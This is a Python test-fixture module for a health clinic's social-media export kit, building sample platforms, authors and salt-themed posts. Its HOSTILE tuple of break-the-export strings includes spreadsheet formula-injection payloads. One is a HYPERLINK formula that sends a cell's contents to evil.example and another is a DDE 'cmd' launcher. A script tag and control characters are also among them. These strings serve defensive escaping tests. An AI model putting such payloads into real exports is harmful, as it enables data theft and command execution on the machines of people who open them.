"""A small kit for the tests of its exports, and texts that want to break them."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from hcsite.features.kit.view import KitPerson, KitPiece, KitPlatform, KitView
from hcsite.model.teaser import Part, Teaser

AS_OF = "2026-11-20T07:00:00+00:00"
LONG_URL = "https://clinic.example/salt/?" + "x=1,2&" * 330 + "end=1"

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+44 1632 960123 is our number",
    "-2+3+cmd|' /C calc'!A0",
    "@nhs says: wash your hands",
    "\t=1+1",
    "\r\n=1+1",
    "\ufeff=1+1",
    "\uff1dSUM(1,1)",
    "'=1+1",
    'Say "no", then\nsmile; =1+1\n=2+2',
    "Wash hands 👩🏽‍⚕️, \u200f\u05e9\u05dc\u200f, 健康です",
    "<script>alert('x') && \"y\"</script>",
    f"Read more: {LONG_URL}",
    "One||two||three",
    "nul\x00 and \x07 bell",
)

PLATFORMS = (
    KitPlatform("x", "X", "x_weighted", 280, official=True),
    KitPlatform("bluesky", "Bluesky", "grapheme", 300, official=True, link="card"),
    KitPlatform("facebook", "Facebook Page", "char", 63206),
    KitPlatform("linkedin", "LinkedIn (member)", "char", 3000),
    KitPlatform("linkedin_page", "LinkedIn (page)", "char", 3000),
    KitPlatform("instagram", "Instagram", "char", 2200, link="bio", picture=True),
    KitPlatform("gbp", "Google Business Profile", "char", 1500, link="button"),
    KitPlatform("pinterest", "Pinterest", "char", 500, link="card", picture=True),
    KitPlatform("whatsapp", "WhatsApp", "char", 4096),
    KitPlatform("newsletter", "Newsletter", "char", 0),
    KitPlatform("sms", "SMS", "sms", 160, official=True),
)
PEOPLE = (
    KitPerson("ana", "Ana Flores", "i", "Hello there,", "Warmly, Ana Flores"),
    KitPerson("ben", "Dr Ben Oyelaran", "i"),
    KitPerson("org", "Riverside Practice"),
)


def teaser(platform: str = "x", variant: str = "day-0", text: str = "", **fields: Any) -> Teaser:
    """A text for a platform."""
    text = text or f"Most salt hides in food. ({platform}, {variant})"
    values: dict[str, Any] = {
        "post": "content/posts/salt.md",
        "angle": "stat",
        "length": len(text),
        "limit": 280,
        "unit": "char",
        "url": "https://clinic.example/posts/salt/?utm_source=x&utm_medium=social",
    }
    return Teaser(platform=platform, variant=variant, text=text, **values | fields)


def letter(text: str = "", subject: str = "Less salt, same taste", **fields: Any) -> Teaser:
    """A text for the newsletter, with its subject and its preheader."""
    parts = (Part("subject", subject), Part("preheader", "Three swaps for this week"))
    told = text or "Salt hides in bread.\n\nLook at the label first."
    return teaser("newsletter", text=told, parts=parts, **fields)


def piece(name: str = "salt", *teasers: Teaser, **fields: Any) -> KitPiece:
    """A piece of 20 November 2026, seven o'clock in the morning, in London."""
    values: dict[str, Any] = {
        "path": f"content/posts/{name}.md",
        "identity": f"posts/{name}",
        "title": f"All about {name}",
        "url": f"https://clinic.example/posts/{name}/",
        "published": "2026-11-20T07:00:00+00:00",
        "short_url": f"https://clinic.example/s/{name}/",
        "authors": ("ana",),
        "reviewers": ("ben",),
        "reviewed": "2026-11-19",
        "og_image": f"https://clinic.example/cards/{name}.abc.jpg",
        "og_alt": f"A spoon of {name}",
        "teasers": teasers or (teaser(),),
    }
    return KitPiece(**values | fields)


def kit(*pieces: KitPiece, **fields: Any) -> KitView:
    """A kit of a practice in London."""
    values: dict[str, Any] = {
        "site": "Riverside Health",
        "org": "Riverside Practice",
        "url": "https://clinic.example/",
        "as_of": AS_OF,
        "day": "2026-11-20",
        "zone": "Europe/London",
        "lang": "en-GB",
        "email": "hello@clinic.example",
        "address": ("1 Mill Lane", "Riverside"),
        "people": PEOPLE,
        "platforms": PLATFORMS,
        "pieces": pieces or (piece(),),
    }
    return KitView(**values | fields)


def moved(view: KitView, as_of: str) -> KitView:
    """The same kit at another moment."""
    return replace(view, as_of=as_of, day=as_of[:10])
